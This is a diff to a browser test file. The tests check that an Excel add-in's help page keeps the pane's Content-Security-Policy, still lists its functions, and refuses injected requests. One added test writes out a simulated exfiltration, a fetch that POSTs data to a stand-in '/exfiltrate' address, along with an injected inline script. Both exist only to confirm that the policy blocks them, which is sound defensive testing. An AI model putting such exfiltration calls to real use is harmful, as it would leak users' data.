@@ -1,7 +1,8 @@
 // The pane's Content-Security-Policy (issue 13 item 8) in Chromium: a fetch to another origin
 // and a script from another site, injected into the page, are refused by the policy itself
 // (a securitypolicyviolation, and no request ever leaves), while the pane loads without any
-// violation and browser mode still opens the sample workbook. Needs `npm run build` first.
+// violation and browser mode still opens the sample workbook. The help page Excel's formula help
+// links to keeps the same policy and still lists the functions. Needs `npm run build` first.
 import { openPaneBrowser, type PaneBrowser } from "../support/paneBrowser";
 
 interface Violation {
@@ -59,6 +60,43 @@ describe("Content-Security-Policy of the pane", () => {
     }, target);
     await browser.page.waitForFunction((url) => (window as unknown as { __violations: Violation[] }).__violations.some((violation) => violation.blocked === url), target);
     expect(await violations(browser)).toContainEqual({ directive: "script-src-elem", blocked: target });
+    expect(browser.outsideRequests).not.toContain(target);
+  });
+});
+
+describe("Content-Security-Policy of the help page", () => {
+  let browser: PaneBrowser;
+  beforeAll(async () => {
+    browser = await openPaneBrowser({ viewport: { width: 1000, height: 800 }, office: "none", initScripts: [{ content: RECORD_VIOLATIONS }], path: "assets/help.html#NEXTACTION" });
+    browser.page.setDefaultTimeout(15_000);
+  }, 60_000);
+  afterAll(async () => {
+    await browser?.close();
+  });
+
+  it("is the pane's policy, and the page still lists every function from functions.json without a violation", async () => {
+    const policy = await browser.page.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute("content") ?? "");
+    expect(policy).toContain("script-src 'self' https://appsforoffice.microsoft.com;");
+    expect(policy).toContain("connect-src 'self';");
+    await browser.page.locator("section#NEXTACTION h2").waitFor();
+    await expect(browser.page.locator("section#DAYSOVERDUE h2").textContent()).resolves.toMatch(/^=AR\.DAYSOVERDUE\(/);
+    expect(await violations(browser)).toEqual([]);
+    expect(browser.pageErrors).toEqual([]);
+  });
+
+  it("refuses an injected fetch to another origin and an inline script", async () => {
+    const target = "http://127.0.0.1:9/exfiltrate";
+    const outcome = await browser.page.evaluate((url) => fetch(url, { method: "POST", body: "the books" }).then(() => "sent", () => "refused"), target);
+    expect(outcome).toBe("refused");
+    const ran = await browser.page.evaluate(() => {
+      const script = document.createElement("script");
+      script.textContent = "window.__inlineRan = true;";
+      document.head.append(script);
+      return (window as unknown as { __inlineRan?: boolean }).__inlineRan === true;
+    });
+    expect(ran).toBe(false);
+    await browser.page.waitForFunction(() => (window as unknown as { __violations: Violation[] }).__violations.some((violation) => violation.blocked === "inline"));
+    expect(await violations(browser)).toContainEqual({ directive: "connect-src", blocked: target });
     expect(browser.outsideRequests).not.toContain(target);
   });
 });
